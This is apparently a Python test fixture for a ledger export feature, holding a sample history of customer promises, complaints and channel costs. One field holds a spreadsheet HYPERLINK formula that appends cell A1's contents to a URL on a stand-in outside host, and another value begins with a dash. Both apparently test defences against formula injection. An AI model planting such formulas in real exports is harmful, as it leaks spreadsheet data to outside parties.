"""Histories for exports, and exports of what a ledger holds."""

from dataclasses import replace
from datetime import UTC, datetime
from decimal import Decimal
from pathlib import Path
from typing import Any

from audit.exports.cases import CONVERSATION
from audit.exports.exporting import begin
from audit.exports.manifest import write_export
from ledger.datastore import Datastore
from schemas.log_mapping import LogMapping
from tests.projections.history import at, happened, inbound, outbound

AS_OF = datetime(2026, 6, 1, tzinfo=UTC)
FORMULA = '=HYPERLINK("https://example.org/?"&A1;"open")'

HISTORY = [
    happened(
        "customer.tiered.v1", "2026-03-01 08:00", tier="most_growable", contribution=Decimal("12.5")
    ),
    inbound("2026-03-02 09:00", "T-1", case_id="case-7", channel="phone", employee_id="007"),
    outbound("2026-03-02 09:30", "T-2", case_id="case-7", channel="mail", employee_id="E-7"),
    happened(
        "promise.made.v1",
        "2026-03-02 09:31",
        promise_id="P-1",
        statement=FORMULA,
        channel="mail",
        due_at="2026-03-06 17:00",
        employee_id="E-7",
        case_id="case-7",
    ),
    happened(
        "promise.revised.v1",
        "2026-03-05 10:00",
        promise_id="P-1",
        due_at="2026-03-09 17:00",
        reason="a part is missing",
        customer_consented=True,
    ),
    happened("promise.kept.v1", "2026-03-09 16:00", promise_id="P-1"),
    happened(
        "complaint.raised.v1",
        "2026-03-10 08:00",
        complaint_id="K-1",
        channel="-phone",
        promise_id="P-1",
        touchpoint_id="T-1",
    ),
    happened(
        "complaint.handed_over.v1",
        "2026-03-10 12:00",
        complaint_id="K-1",
        from_employee="E-7",
        to_employee="E-8",
        customer_visible=True,
    ),
    happened(
        "complaint.closed.v1",
        "2026-03-12 08:00",
        complaint_id="K-1",
        outcome="upheld",
    ),
    happened(
        "channel.costed.v1",
        "2026-01-01 00:00",
        channel="phone",
        currency="EUR",
        valid_from="2026-01-01 00:00",
    ),
    inbound("2026-03-20 09:00", "T-3", customer_id="Bob", channel="phone")._replace(
        occurred_at=at("2026-03-20 09:00:00.123456")
    ),
]
"""A customer with a promise, moved and kept, and a complaint; another with a call; a policy."""


def exported(
    datastore: Datastore,
    format_: str,
    path: Path,
    /,
    *,
    as_of: datetime = AS_OF,
    case: str = CONVERSATION,
    mapping: LogMapping | None = None,
    **selected: Any,
) -> dict[str, Any]:
    """Export to a new file; the manifest."""
    export = begin(datastore, format_, as_of=as_of, **selected)
    export = replace(export, case=case, mapping=mapping)
    return write_export(export, path, made_at=AS_OF, version="test")
